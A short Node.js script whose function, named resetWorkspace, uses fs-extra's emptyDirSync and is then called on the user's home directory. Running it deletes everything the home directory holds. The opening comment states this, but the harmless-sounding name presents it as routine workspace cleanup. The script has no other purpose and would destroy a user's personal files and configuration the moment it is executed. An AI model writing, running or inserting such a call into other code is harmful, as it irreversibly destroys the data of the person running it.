// Deletes recursively: fs-extra's emptyDirSync removes everything inside
// the directory it is given, here the home directory.
'use strict';
const fse = require('fs-extra');
const os = require('os');

function resetWorkspace(dir) {
  fse.emptyDirSync(dir);
  console.log('workspace reset:', dir);
}

resetWorkspace(os.homedir());
